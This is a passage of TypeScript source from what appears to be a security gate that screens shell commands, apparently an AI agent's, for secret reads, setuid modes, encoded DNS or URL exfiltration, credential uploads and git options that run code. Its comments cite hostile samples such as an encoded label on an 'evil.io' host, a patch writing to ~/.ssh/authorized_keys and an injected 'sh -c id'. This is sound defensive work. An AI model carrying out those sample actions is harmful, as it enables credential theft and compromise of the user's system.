// string (`AZURE_STORAGE_CONNECTION_STRING`: AccountKey=…, `*_CONN_STR`) and a `_PW` / `_PWD`
// part (`LDAP_BIND_PW`; `PWD` itself, the working directory, is not) name a credential.
export const SECRET_NAME =
  /KEY|TOKEN|SECRET|PASS|CRED|AUTH|SESSION|COOKIE|PRIVATE|CERT|DATABASE|DSN|MONGO|REDIS|AMQP|POSTGRES|MYSQL|WEBHOOK|HOOK_URL|JWT|BEARER|SIGNING|(^|_)PAT($|_)|_UR[LI]S?($|_)|(^|_)(BROKER|PW|CONN(ECTION)?(_?STR(ING)?)?)($|_)|_PWD($|_)/i;

/**
 * `chmod MODE…`, `install -m MODE`: a mode that sets the setuid or setgid bit, in any notation
 * (`4755`, `04755`, `u+s`, `ug+xs`, `=rwxs`, `u=rwxs,g=rx`). A mode only known at run time may.
 */
function modeEffects(program: string, words: Word[], fx: Effects): void {
  const modes: (string | null)[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (program === "install") {
      if (v === "-m" || v === "--mode") modes.push(words[++i]?.value ?? null);
      else if (v !== null && /^(-m.|--mode=)/.test(v)) modes.push(v.slice(v.startsWith("-m") ? 2 : 7));
      else if (v === null) modes.push(null);
    } else if (v?.startsWith("--reference")) return;
    else if (v === null || !v.startsWith("-") || parseMode(v) !== null) {
      // chmod's mode is its first operand (`-w` and `-s` are modes too); the rest are files.
      modes.push(v);
      break;
    }
  }
  if (modes.some((m) => m !== null && parseMode(m)?.setid === true)) fx.setid = true;
  else if (modes.includes(null)) fx.setid = "maybe";
}

/**
 * A chmod mode: octal (the 04000/02000 bits are setuid/setgid) or comma-separated symbolic clauses
 * `[ugoa]*([-+=]([rwxXst]*|[ugo]))+`; null when the text is no mode (a file name).
 */
export function parseMode(mode: string): { setid: boolean } | null {
  if (/^[0-7]{1,5}$/.test(mode)) return { setid: (Number.parseInt(mode, 8) & 0o6000) !== 0 };
  let setid = false;
  for (const clause of mode.split(",")) {
    const m = /^([ugoa]*)((?:[-+=](?:[rwxXst]*|[ugo]))+)$/.exec(clause);
    if (!m) return null;
    // `o+s` sets nothing; any other who (none means all) with `+s` or `=…s` sets an id bit.
    const who = m[1]!;
    if (who !== "" && /^o+$/.test(who)) continue;
    for (const op of m[2]!.matchAll(/([-+=])([rwxXst]*|[ugo])/g))
      if (op[1] !== "-" && op[2]!.includes("s")) setid = true;
  }
  return { setid };
}

/** A count of 10^7 or more (or with an exponent): a loop, a field or a file the size of a disk. */
function hugeNumber(v: string): boolean {
  return /^[+-]?\d{8,}$/.test(v) || /^[+-]?\d+(\.\d+)?e\+?\d+$/i.test(v);
}

/**
 * Flags of the builtins that write variables whose next word is a value (not a name): read's
 * `-d -p -n -N -t -u -i -k`, mapfile's `-d -n -O -s -u -c`; `-a`/`-A` (read) and `-v` (printf,
 * print) take the NAME written. zsh's `read NAME?prompt` writes NAME.
 */
const SET_VALUE_FLAGS: Record<string, RegExp> = wordTable({
  read: /^-[a-zA-Z]*[dpnNtuikC]$/,
  mapfile: /^-[a-zA-Z]*[dnOsuc]$/,
  readarray: /^-[a-zA-Z]*[dnOsuc]$/,
  vared: /^-[a-zA-Z]*[pr]$/,
});

function setVar(fx: Effects, name: string): void {
  if (fx.sets === null) fx.sets = [];
  fx.sets.push(name);
}

/** The variables `program words…` writes, into `fx.sets`; `mapfile -C CODE` runs CODE. */
function setVariables(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  if (program === "printf" || program === "print") {
    // Only `-v NAME` (or `-vNAME`) writes; the rest is printed.
    for (let i = 0; i < words.length; i++) {
      const v = words[i]!.value;
      if (v === null || v === "--" || !v.startsWith("-")) return;
      if (v === "-v") setVar(fx, words[++i]?.value ?? "");
      else if (/^-[a-zA-Z]*v/.test(v)) setVar(fx, v.slice(v.indexOf("v") + 1) || (words[++i]?.value ?? ""));
    }
    return;
  }
  if (program === "getopts") {
    // `getopts OPTSTRING NAME [ARGS…]`: NAME (and OPTARG, OPTIND, which nothing reads as code).
    const name = words.length >= 2 ? words[1]!.value : "";
    setVar(fx, name ?? "");
    return;
  }
  const valueFlag = SET_VALUE_FLAGS[program]!;
  let names = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      setVar(fx, "");
      continue;
    }
    if (!names && v === "--") {
      names = true;
      continue;
    }
    if (!names && v.length > 1 && v.startsWith("-")) {
      if (/^-[a-zA-Z]*C/.test(v) && program !== "read")
        floor(fx, `code: '${ctx.text}' runs a callback given in ${v} for every line it reads`);
      if (/^-[a-zA-Z]*[aA]$/.test(v) && program === "read") setVar(fx, words[++i]?.value ?? "");
      else if (valueFlag.test(v)) i++;
      continue;
    }
    names = true;
    // zsh: `read 'NAME?prompt'` writes NAME.
    const q = program === "read" ? v.indexOf("?") : -1;
    setVar(fx, q > 0 ? v.slice(0, q) : v);
  }
}

/**
 * `hash NAME=PATH` (zsh) and `hash -p PATH NAME` (bash): NAME runs PATH for the rest of the shell,
 * a program of the line's choosing under a known name. Bound in `fx.binds`, the path judged as run.
 */
function hashEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let path: string | null | undefined;
  let dirs = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      floor(fx, `shell-definition: '${ctx.text}' maps a command name only known at run time`);
      continue;
    }
    if (v.startsWith("-") && v.length > 1) {
      if (/^-[a-zA-Z]*d/.test(v)) dirs = true; // zsh `hash -d name=DIR`: a named directory, `~name`
      if (/^-[a-zA-Z]*p$/.test(v)) path = words[++i]?.value ?? null;
      continue;
    }
    const eq = v.indexOf("=");
    if (path !== undefined) {
      if (path === null)
        floor(fx, `shell-definition: '${ctx.text}' maps '${v}' to a program only known at run time`);
      else bind(v, path, ctx, fx);
      path = undefined;
    } else if (eq > 0 && !dirs) bind(v.slice(0, eq), v.slice(eq + 1), ctx, fx);
  }
}

function bind(name: string, path: string, ctx: EffectsCtx, fx: Effects): void {
  floor(fx, `shell-definition: '${ctx.text}' makes '${name}' run ${path}`);
  if (fx.binds === null) fx.binds = [];
  fx.binds.push([name, path]);
  fx.scripts.push(path);
}

function floor(fx: Effects, reason: string): void {
  if (!fx.floors.includes(reason)) fx.floors.push(reason);
}

/** Applies a value's role: the flag (for reasons) and the value (null when only known at run time). */
function apply(role: Role, flag: string, v: string | null, ctx: EffectsCtx, fx: Effects): void {
  switch (role) {
    case "none":
    case "pid":
      return;
    case "write":
      // `-O -`, `-o -`: standard output, not a file.
      if (v === null) fx.dynamicWrite = true;
      else if (v !== "-") fx.writes.push(v);
      return;
    case "read":
      if (v !== null) fx.reads.push(v);
      return;
    case "script":
      if (v === "-") {
        floor(fx, `inline-code: '${ctx.text}' runs code read from its standard input (${flag})`);
        return;
      }
      if (v !== null && (/^[a-z][a-z0-9+.-]*:/i.test(v) || /^\s*[{[]/.test(v))) {
        // `deno run https://…`, `jest --config '{"globalSetup": …}'`: code nobody has read.
        floor(fx, `code: '${ctx.text}' runs code given as a URL or inline text (${flag})`);
        return;
      }
      if (v === null || !ctx.inWorkspace(v))
        floor(
          fx,
          `code: '${ctx.text}' runs ${v === null ? "a file only known at run time" : `'${v}', outside the workspace`} (${flag})`,
        );
      else fx.scripts.push(v);
      if (v !== null) fx.reads.push(v);
      return;
    case "code":
      floor(fx, `inline-code: '${ctx.text}' gives it code to run (${flag})`);
      return;
    case "cmd":
      floor(fx, `code-runner: '${ctx.text}' runs the command given in ${flag}`);
      return;
    case "host":
      if (v !== null) for (const h of hostsOf(flag, v)) if (!fx.hosts.includes(h)) fx.hosts.push(h);
      return;
    case "socket":
      // A local socket is a daemon (the docker API, the agent's own): not a trusted host.
      floor(
        fx,
        `internal-address: '${ctx.text}' talks to the local socket ${v ?? "(only known at run time)"} (${flag})`,
      );
      return;
  }
}

/**
 * A run the model chose that reads as encoded data (gate43): 16 to 512 characters of the base64/
 * base64url alphabet with upper case, lower case and digits all present (no DNS name is mixed case:
 * names are case-blind; words, versions and git hashes are not all three; 12 to 15 with 3 capitals,
 * 2 lower case and 2 digits, which a CamelCase name with a digit is not), or 32 and more letters
 * and digits with a quarter of them digits (hex, base32: what DNS tunnels send).
 */
export function encodedRun(s: string): boolean {
  const n = s.length;
  if (n < 12 || n > 512) return false;
  let up = 0;
  let low = 0;
  let dig = 0;
  let other = 0;
  for (let i = 0; i < n; i++) {
    const c = s.charCodeAt(i);
    if (c >= 65 && c <= 90) up++;
    else if (c >= 97 && c <= 122) low++;
    else if (c >= 48 && c <= 57) dig++;
    else if (c === 43 || c === 47 || c === 61 || c === 95 || c === 45) other++;
    else return false;
  }
  if (n >= 16 ? up > 0 && low > 0 && dig > 0 : up >= 3 && low >= 2 && dig >= 2) return true;
  return other === 0 && n >= 32 && dig * 4 >= n && up + low > 0;
}

/**
 * Data a URL (or a `host/path` reference) carries in what the model chose beyond the host it names:
 * a DNS label or a path segment that reads as encoded (`ZGItcGFzcw.evil.io`, `/c/ZGItcGFzcz1o…`).
 * The request sends it whatever the method: the name to the resolver and the host, the path to the
 * host. Null when it carries none. The registrable name (the last two labels) is the host's own.
 */
export function urlData(v: string): string | null {
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/?#]*@)?([^/:?#]+)(?::\d+)?([^?#]*)/i.exec(v);
  if (m === null) return null;
  const labels = m[1]!.split(".");
  for (let i = 0; i < labels.length - 2; i++)
    if (encodedRun(labels[i]!)) return `the host name label '${labels[i]}'`;
  const path = m[2]!;
  if (path.length < 17) return null;
  for (const seg of path.split("/")) {
    // A commit id or a sha256 digest names an object; the model did not choose its letters.
    if ((seg.length === 40 || seg.length === 64) && /^[0-9a-f]+$/.test(seg)) continue;
    const bare = seg.replace(/\.[A-Za-z0-9]{1,5}$/, "").replace(/:[A-Za-z0-9._-]*$/, "");
    if (encodedRun(bare)) return `the path segment '${seg}'`;
  }
  return null;
}

/** A floor when `v` carries encoded data to the host it names (urlData). */
function urlDataFloor(v: string, ctx: EffectsCtx, fx: Effects): void {
  const why = urlData(v);
  if (why !== null) floor(fx, `network-data: '${ctx.text}' sends data in ${why}`);
}

/**
 * python-dotenv's CLI reads its file (`-f/--file FILE`, else `.env` in the cwd) and prints it
 * (`list`, `get`) or hands it to a command (`run`): a read of that file (gate43).
 */
function dotenvReads(words: Word[], fx: Effects): void {
  let file: string | null = ".env";
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === "-f" || v === "--file") file = words[++i]?.value ?? null;
    else if (v?.startsWith("--file=")) file = v.slice(7);
  }
  fx.reads.push(file ?? ".env");
}

/** A request header that authorises it as an account: whose account is the value's. */
export const CREDENTIAL_HEADER =
  /^\s*(?:proxy-)?authorization\s*:|^\s*(?:private-token|x-api-key|api-key|x-auth-token|x-access-token|x-github-token|x-gitlab-token)\s*:/i;
/** curl's flags that send a body (or upload a file), and the methods that write. */
const CURL_SENDS = new Set([
  "-d",
  "--data",
  "--data-raw",
  "--data-binary",
  "--data-ascii",
  "--data-urlencode",
  "--json",
  "-F",
  "--form",
  "--form-string",
  "-T",
  "--upload-file",
]);
const WGET_SENDS = new Set(["--post-data", "--post-file", "--body-data", "--body-file"]);
const WRITE_METHOD = /^(?:POST|PUT|PATCH|DELETE)$/i;

/**
 * A request that sends data authorised by a credential typed on the line (gate43): a header such
 * as `Authorization: token 0f9e…` whose value is text, not `$GITHUB_TOKEN`, or `-u name:password`.
 * The host may be trusted (api.github.com, uploads.github.com): the account the data lands in is
 * the token's, and a token the model typed is not the user's configured one. A write is ESCALATE
 * whatever the host.
 */
function typedCredentialUpload(
  opts: readonly CurlOpt[],
  sends: ReadonlySet<string>,
  ctx: EffectsCtx,
  fx: Effects,
): void {
  let typed = false;
  let body = false;
  for (const { name, value: v } of opts) {
    const value = v ?? null;
    if (sends.has(name)) body = true;
    else if (name === "-X" || name === "--request" || name === "--method") {
      if (value === null || WRITE_METHOD.test(value)) body = true;
    } else if (name === "-H" || name === "--header") {
      if (value !== null && CREDENTIAL_HEADER.test(value) && !value.includes("$")) typed = true;
    } else if (name === "-u" || name === "--user" || name === "--http-password" || name === "--password") {
      if (value !== null && (name !== "-u" && name !== "--user" ? value !== "" : /:./.test(value)))
        typed = true;
    }
  }
  if (typed && body)
    floor(
      fx,
      `network-upload: '${ctx.text}' sends data under a credential typed on the line (its account, not the user's)`,
    );
}

/**
 * wget's options as name and value (`--header=V` or `--header V`; wget does not bundle the ones
 * typedCredentialUpload reads): the value is the next word when not attached.
 */
function wgetOpts(words: Word[]): CurlOpt[] {
  const opts: CurlOpt[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || v[0] !== "-") continue;
    const eq = v.startsWith("--") ? v.indexOf("=") : -1;
    opts.push(
      eq > 0
        ? { name: v.slice(0, eq), value: v.slice(eq + 1) }
        : { name: v, value: words[i + 1]?.value ?? null },
    );
  }
  return opts;
}

/**
 * Module paths of `go get/install/run/list -m/mod download` (gate43): a module path's first element
 * is the host the module comes from; through the default GOPROXY the proxy fetches it from there,
 * so the path reaches that host (and carries what the model put in it).
 */
function goModuleHosts(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const sub = words[0]?.value;
  let from = 1;
  if (sub === "mod" && (words[1]?.value === "download" || words[1]?.value === "why")) from = 2;
  else if (sub === "list") {
    if (!words.some((w) => w.value === "-m")) return;
  } else if (sub !== "get" && sub !== "install" && sub !== "run") return;
  for (const w of words.slice(from)) {
    const v = w.value;
    if (v === null || v.startsWith("-") || v.startsWith(".") || v.startsWith("/")) continue;
    if (sub === "run" && !v.includes("@")) continue;
    const first = v.split("/")[0]!.split("@")[0]!;
    if (!first.includes(".")) continue;
    const h = canonicalHost(first);
    if (h !== "" && !fx.hosts.includes(h)) fx.hosts.push(h);
    urlDataFloor(v.split("@")[0]!, ctx, fx);
  }
}

/**
 * gate56: `go env -w NAME=VALUE` / `go env -u NAME` write the user's go env file (GOENV:
 * os.UserConfigDir()/go/env, `go help environment`), which every later go command reads: GOPROXY,
 * GOSUMDB=off, GOFLAGS=-toolexec=PROG, CC for good. A write outside the workspace, as the file.
 */
function goEnvWrite(words: Word[], fx: Effects): void {
  if (words[0]?.value !== "env") return;
  for (const w of words) {
    const v = w.value;
    if (v === null || v === "-w" || v === "-u" || v.startsWith("-w=") || v.startsWith("-u=")) {
      fx.writes.push("~/Library/Application Support/go/env", "~/.config/go/env");
      return;
    }
  }
}

/**
 * `ollama run/pull/push/show/cp HOST/NS/MODEL:TAG`: a model name whose first element is a host
 * (a dot, a port or localhost) is fetched from or sent to that registry, not Ollama's (gate43).
 */
function ollamaRegistry(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const sub = words[0]?.value;
  if (sub !== "run" && sub !== "pull" && sub !== "push" && sub !== "show" && sub !== "cp") return;
  for (const w of words.slice(1)) {
    const v = w.value;
    if (v === null || v.startsWith("-")) continue;
    const slash = v.indexOf("/");
    if (slash > 0) {
      const first = v.slice(0, slash);
      if (first.includes(".") || first.includes(":") || first === "localhost") {
        const h = canonicalHost(first.replace(/:\d+$/, ""));
        if (h !== "" && !fx.hosts.includes(h)) fx.hosts.push(h);
        urlDataFloor(v, ctx, fx);
      }
    }
    if (sub !== "cp") return;
  }
}

/**
 * Hosts named by a value: a URL or `host[:port]`, `--resolve HOST:PORT:ADDR[,ADDR]` (both the name
 * and the addresses), `--connect-to H1:P1:H2:P2` (both hosts).
 */
export function hostsOf(flag: string, v: string): string[] {
  if (flag === "--resolve" || flag === "--connect-to") {
    const parts = splitColons(v.replace(/^\+/, ""));
    const names =
      flag === "--resolve" ? [parts[0], ...parts.slice(2).join(":").split(",")] : [parts[0], parts[2]];
    return names
      .filter((n): n is string => n !== undefined && n !== "")
      .map((n) => canonicalHost(n.replace(/^\[|\]$/g, "")));
  }
  const h = /^[a-z][a-z0-9+.-]*:\/\//i.test(v) ? hostOf(v) : hostOf(`http://${v}`);
  return h ? [h] : [];
}

/** Splits on `:` outside `[…]` (IPv6 literals). */
function splitColons(s: string): string[] {
  const out: string[] = [];
  let cur = "";
  let depth = 0;
  for (const c of s) {
    if (c === "[") depth++;
    else if (c === "]") depth--;
    if (c === ":" && depth === 0) {
      out.push(cur);
      cur = "";
    } else cur += c;
  }
  out.push(cur);
  return out;
}

/** A spec's long flags (with and without values), for abbreviations. */
function* specLongs(spec: ProgramSpec): Iterable<string> {
  for (const k in spec.values) if (k.startsWith("--")) yield k;
  if (spec.long) yield* spec.long;
}

/** The spec-driven reading of a command's words. */
function byspec(spec: ProgramSpec, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const operands: Word[] = [];
  let targeted = false;
  let target: string | null = null;
  let end = false;
  // `yq -i`, `plutil -insert …` without `-o`: the files read are rewritten.
  let inPlace = false;
  let notInPlace = false;
  // grep's pattern: given by -e/-f (or no pattern: `rg --files`), else the first operand
  // (spec.expr). A word only known at run time could be such a flag: then no operand is the pattern.
  let exprGiven =
    spec.expr !== undefined &&
    words.some(
      (w) => w.value === null || spec.expr!.some((f) => w.value === f || w.value!.startsWith(`${f}=`)),
    );
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    const v = w.value;
    if (v === null) {
      operands.push(w);
      continue;
    }
    if (end || v === "-" || !v.startsWith("-")) {
      operands.push(w);
      continue;
    }
    if (v === "--") {
      end = true;
      continue;
    }
    const take = (role: Role | Role[], flag: string, attached: string | undefined): void => {
      const roles = Array.isArray(role) ? role : [role];
      const isTarget = spec.target?.includes(flag) === true;
      if (isTarget) targeted = true;
      const isExpr = spec.expr?.includes(flag) === true;
      if (isExpr) exprGiven = true;
      roles.forEach((r, k) => {
        let val: string | null;
        if (k === 0 && attached !== undefined) val = attached;
        else if (i + 1 < words.length) {
          val = words[++i]!.value;
          if (isExpr && r === "none") fx.exprs.push(words[i]!);
        } else return;
        if (isTarget) target = val;
        apply(r, flag, val, ctx, fx);
      });
    };
    const eq = v.indexOf("=");
    if (v.startsWith("--")) {
      let name = eq > 0 ? v.slice(0, eq) : v;
      if (spec.abbrev && spec.values?.[name] === undefined && !spec.long?.includes(name)) {
        // `sort --out=F` is `--output=F`; a prefix of several flags is unknown.
        const full = longPrefix(name, specLongs(spec));
        if (full === null)
          floor(fx, `unknown-flag: '${ctx.text}': '${name}' abbreviates several flags of this program`);
        else if (full !== undefined) {
          name = full;
          fx.longFlags.push(full);
        }
      }
      if (spec.inPlace?.includes(name)) inPlace = true;
      const role = spec.values?.[name];
      if (role !== undefined) take(role, name, eq > 0 ? v.slice(eq + 1) : undefined);
      else if (!spec.long?.includes(name) && !spec.open)
        floor(fx, `unknown-flag: '${ctx.text}': '${name}' is not a flag the gate knows for this program`);
      continue;
    }
    if (spec.numeric && /^-\d+$/.test(v)) continue;
    // Single-dash words named whole: `-exec`, `-TT`, `-ex`, `-o` (gcc), xxd's `-ps`, and java's
    // colon-attached `-javaagent:/x.jar`.
    const colon = v.indexOf(":");
    const sep =
      eq > 0 && (colon < 0 || eq < colon) ? eq : colon > 0 && spec.values?.[v.slice(0, colon)] ? colon : -1;
    const whole = sep > 0 ? v.slice(0, sep) : v;
    const wholeRole = spec.values?.[whole];
    if (wholeRole !== undefined) {
      if (spec.inPlace?.includes(whole)) inPlace = true;
      if (spec.inPlaceUnless?.includes(whole)) notInPlace = true;
      take(wholeRole, whole, sep > 0 ? v.slice(sep + 1) : undefined);
      continue;
    }
    if (spec.long?.includes(v)) {
      if (spec.inPlace?.includes(v)) inPlace = true;
      if (spec.expr?.includes(v)) exprGiven = true;
      continue;
    }
    // A bundle of short flags; a value-taking one takes the rest of the word, or the next word.
    for (let k = 1; k < v.length; k++) {
      const f = `-${v[k]}`;
      if (spec.inPlace?.includes(f)) inPlace = true;
      if (spec.inPlaceUnless?.includes(f)) notInPlace = true;
      const role = spec.values?.[f];
      if (role !== undefined) {
        take(role, f, k + 1 < v.length ? v.slice(k + 1) : undefined);
        break;
      }
      if (spec.short?.includes(v[k]!)) continue;
      if (spec.numeric && /^\d+$/.test(v.slice(k))) break;
      if (!spec.open)
        floor(fx, `unknown-flag: '${ctx.text}': '${f}' is not a flag the gate knows for this program`);
      break;
    }
  }
  const roles = spec.operands ?? "read";
  if (roles === "copy" || roles === "move") {
    fx.copy = true;
    operands.forEach((o, k) => {
      const last = k === operands.length - 1 && operands.length > 1 && !targeted;
      apply(last ? "write" : "read", "operand", o.value, ctx, fx);
      if (!last && roles === "move" && o.value !== null) movedAway(o.value, ctx, fx);
    });
    // Into a directory (`cp x tests/`, `-t DIR`, or a last operand that is one): DIR/<basename>.
    const dir = targeted ? target : operands.length > 1 ? operands[operands.length - 1]!.value : undefined;
    if (dir != null) intoDir(fx, dir, targeted ? operands : operands.slice(0, -1));
    return;
  }
  if (spec.expr !== undefined && !exprGiven && operands[0] !== undefined && operands[0].value !== null)
    fx.exprs.push(operands.shift()!);
  if (spec.subcommands !== undefined && operands.length > 0) {
    // gate65: the subcommand is no operand; one the spec did not review is unknown.
    const s = operands[0]!.value;
    const { reviewed, others, only } = spec.subcommands;
    if (s !== null && reviewed.includes(s)) {
      if (spec.inPlace?.includes(s)) inPlace = true;
      operands.shift();
    } else if (s === null || others?.includes(s) || only)
      floor(
        fx,
        `unknown-subcommand: '${ctx.text}': ${s === null ? "a subcommand only known at run time" : `'${s}' is not a subcommand the gate reviewed for this program`}`,
      );
  }
  operands.forEach((o, k) => {
    const r = Array.isArray(roles) ? roles[Math.min(k, roles.length - 1)]! : roles;
    if (r === "host" && o.value !== null && !/^[a-z][a-z0-9+.-]*:\/\//i.test(o.value)) return;
    apply(r, "operand", o.value, ctx, fx);
    if (r === "read" && inPlace && !notInPlace) apply("write", "in place", o.value, ctx, fx);
  });
}

/** A move's source: written (it is removed) and remembered as moved (its bytes are the destination's). */
function movedAway(v: string, ctx: EffectsCtx, fx: Effects): void {
  apply("write", "moved away", v, ctx, fx);
  if (fx.moved === null) fx.moved = [];
  fx.moved.push(v);
}

/** git subcommands that write, delete or replace files of the work tree. */
const GIT_TREE_WRITERS = new Set([
  "clean",
  "checkout",
  "switch",
  "reset",
  "restore",
  "stash",
  "rm",
  "mv",
  "merge",
  "rebase",
  "pull",
  "am",
  "apply",
  "cherry-pick",
  "revert",
  "worktree",
  "init",
  "clone",
]);

/** git: global flags (closed), then the subcommand's code-running and out-of-tree flags. */
/** git config keys that say who made a commit. */
const GIT_IDENTITY_KEYS = /^(user|author|committer)\.(name|email)=/i;

/** A directory that is absolute, in home or climbs out of where it is taken from. */
const OUT_OF_TREE = /^[/~]|(?:^|\/)\.\.(?:\/|$)/;

function gitEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let i = 0;
  let gitDir: string | null | undefined;
  let at = ".";
  const configKey = (kv: string | null, flag: string) => {
    // An identity set on the line: commits name someone else, as `commit --author` does.
    if (kv !== null && GIT_IDENTITY_KEYS.test(kv))
      floor(
        fx,
        `identity: '${ctx.text}' sets '${kv.split("=")[0]}' on the line: commits name whom the line says`,
      );
    else if (kv === null || !GIT_INERT_KEYS.test(kv))
      floor(
        fx,
        `code-runner: '${ctx.text}' sets git config ${kv === null ? "only known at run time" : `'${kv.split("=")[0]}'`} (${flag}), which is not on the list of inert keys`,
      );
  };
  for (; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      floor(fx, `dynamic-command: '${ctx.text}': a git option or subcommand is only known at run time`);
      return;
    }
    if (!v.startsWith("-")) break;
    const eq = v.indexOf("=");
    const name = eq > 0 && v.startsWith("--") ? v.slice(0, eq) : v;
    const role = GIT_GLOBAL.values?.[name];
    if (role !== undefined) {
      const val = eq > 0 && v.startsWith("--") ? v.slice(eq + 1) : (words[++i]?.value ?? null);
      if (name === "-c") configKey(val, "-c");
      else apply(role as Role, name, val, ctx, fx);
      if (name === "--git-dir") gitDir = val;
      else if (name === "-C" && val !== null) at = at === "." || val.startsWith("/") ? val : `${at}/${val}`;
      continue;
    }
    if (GIT_GLOBAL.long?.includes(name)) continue;
    if (/^-[pPhv]+$/.test(v)) continue;
    floor(fx, `unknown-flag: '${ctx.text}': '${name}' is not a git option the gate knows`);
  }
  if (gitDir !== null)
    fx.repo =
      gitDir === undefined
        ? { dir: at, explicit: false }
        : { dir: gitDir.startsWith("/") || at === "." ? gitDir : `${at}/${gitDir}`, explicit: true };
  const sub = words[i]?.value;
  if (sub === undefined || sub === null) return;
  // `ext::CMD` and `fd::N` transports: git runs CMD (or talks over a descriptor) as the remote.
  for (let k = i + 1; k < words.length; k++) {
    const w = words[k]!.value;
    const t = w === null ? null : /^(ext|fd)::/i.exec(w.slice(w.indexOf("=") + 1));
    if (t)
      floor(
        fx,
        `code-runner: '${ctx.text}' names the ${t[1]}:: transport, which runs a command as the remote`,
      );
  }
  // Work-tree changes where the tree is the cwd: outside the workspace they change files the
  // workspace rules never saw (`git clean -fdx` with cwd=$HOME).
  if (GIT_TREE_WRITERS.has(sub) && !ctx.inWorkspace("."))
    floor(
      fx,
      `writes-outside: '${ctx.text}' changes the work tree at its cwd, outside the workspace (git ${sub})`,
    );
  // `git apply` / `git am` write the files their patch names (in the repository at -C, or the cwd).
  if (sub === "apply" || sub === "am") {
    const rest = words.slice(i + 1).map((w) => w.value);
    const dry = rest.some((v) => v !== null && /^--(check|stat|numstat|summary)$/.test(v));
    if (!dry || rest.includes("--apply")) {
      let k = words.findIndex((w) => w.value === "-C");
      fx.tree = k >= 0 && k < i ? (words[k + 1]?.value ?? "/") : ".";
      k = rest.findIndex((v) => v === "--directory" || v?.startsWith("--directory=") === true);
      const dir = k < 0 ? undefined : rest[k] === "--directory" ? (rest[k + 1] ?? null) : rest[k]!.slice(12);
      if (dir !== undefined) fx.tree = `${fx.tree}/${dir}`;
      // --unsafe-paths (any unambiguous prefix, from --uns) lets the patch's own paths leave the
      // work tree (`+++ /Users/dev/.ssh/authorized_keys`, `../../x`); a --directory root that is
      // absolute, climbs out or is only known at run time puts every target there (gate47).
      const unsafe = rest.some((v) => v !== null && v.length >= 5 && "--unsafe-paths".startsWith(v));
      if (unsafe || (dir !== undefined && (dir === null || OUT_OF_TREE.test(dir))))
        floor(
          fx,
          `workspace-escape: '${ctx.text}' applies a patch whose targets ${unsafe ? "may lie anywhere (--unsafe-paths: absolute and ../ paths)" : `lie under '${dir ?? "(only known at run time)"}'`}, which the gate cannot see`,
        );
    }
  }
  const codeSub = GIT_CODE_SUBS[sub];
  if (codeSub !== undefined) {
    const next = words.slice(i + 1).find(isOperand);
    if (codeSub === null || next === undefined || next.value === null || next.value === codeSub)
      floor(fx, `code-runner: '${ctx.text}' runs commands (git ${sub}${codeSub ? ` ${codeSub}` : ""})`);
  }
  gitOperands(sub, words.slice(i + 1), ctx, fx);
  if (sub === "config" || sub === "var") gitConfigPrints(sub, words.slice(i + 1), fx);
  const opts = gitOptions(sub, words.slice(i + 1), fx);
  if (opts !== null) gitHistory(sub, opts, ctx, fx);
  {
    const k = words.findIndex((w) => w.value === "-C");
    gitFetched(sub, k >= 0 && k < i ? (words[k + 1]?.value ?? "/") : ".", words.slice(i + 1), ctx, fx);
  }
  const roles = GIT_SUB[sub];
  if (!roles) return;
  for (let j = i + 1; j < words.length; j++) {
    const v = words[j]!.value;
    if (v === null || !v.startsWith("-") || v === "-") continue;
    if (v === "--") break;
    const eq = v.indexOf("=");
    let name = eq > 0 ? v.slice(0, eq) : v;
    let role = roles[name];
    let attached = eq > 0 ? v.slice(eq + 1) : undefined;
    if (role === undefined && v.startsWith("--")) {
      // parse-options takes any unambiguous prefix: `rebase --exe=CMD` is `--exec=CMD`.
      const full = longPrefix(name, Object.keys(roles));
      if (full === null)
        floor(
          fx,
          `code-runner: '${ctx.text}': '${name}' abbreviates several git options that run code or write`,
        );
      else if (full !== undefined) {
        role = roles[full];
        name = full;
      }
    }
    if (role === undefined && !v.startsWith("--")) {
      // An attached short value: `-O'sh -c id'`, `-xCMD`.
      role = roles[v.slice(0, 2)];
      if (role !== undefined && v.length > 2) attached = v.slice(2);
    }
    if (role === undefined) continue;
    const val =
      attached ?? (role === "cmd" && sub === "grep" && v === "-O" ? null : (words[++j]?.value ?? null));
    if ((name === "--config" || name === "-c") && sub === "clone") configKey(val, name);
    else apply(role, name, val, ctx, fx);
  }
}

/**
 * git config sections whose keys hold no credential: a --get-regexp anchored to one (`^alias\.`,
 * `^user`) prints none; `alias` (the everyday `git config --get-regexp alias`) and the other names
 * no URL holds need no anchor. Any other pattern can match url.<URL-with-token>.insteadof,
 * http.<url>.extraheader or credential.* (a key's name holds the URL, so `user` finds
 * `url.https://user:TOKEN@host/.insteadof`).
 */
const GIT_PLAIN_SECTION =
  /^(\^(user|pull|push|merge|diff|log|format|commit|tag|rebase|status|help|blame|grep|stash|interactive|sequence|feature|safe|gpg|fetch|branch)|\^?(alias|core|color|init|advice|gc|i18n|rerere|maintenance|column|pager))(\\?\.|$)/i;
/** git config options that take a value. */
const GIT_CONFIG_VALUED = /^(-f|--file|--blob|--type|--default|--comment|--value|--url)$/;

/**
 * What `git config` prints whole (issue 19 §4, gate46): `--list` / `-l` / `list`, `var -l`, and
 * `--get-regexp` / `get --regexp` / `--get-urlmatch` / `get --url` over a pattern not anchored to a
 * plain section print the config's credential keys (a token in an insteadOf URL, actions/checkout's
 * extraheader, credential.*). Each is a read of the files it prints (the scope's, or all four), so
 * the path rules judge it as `cat .git/config` is; `--file F` is already a read of F, and
 * `--blob REV:PATH` reads PATH. One value (`--get user.email`, `remote.origin.url`) is not a listing.
 */
function gitConfigPrints(sub: string, rest: Word[], fx: Effects): void {
  let list = false;
  let search = false;
  let file = false;
  let scope: string | null = null;
  let pattern: string | null | undefined;
  for (let k = 0; k < rest.length; k++) {
    const v = rest[k]!.value;
    if (v === null) {
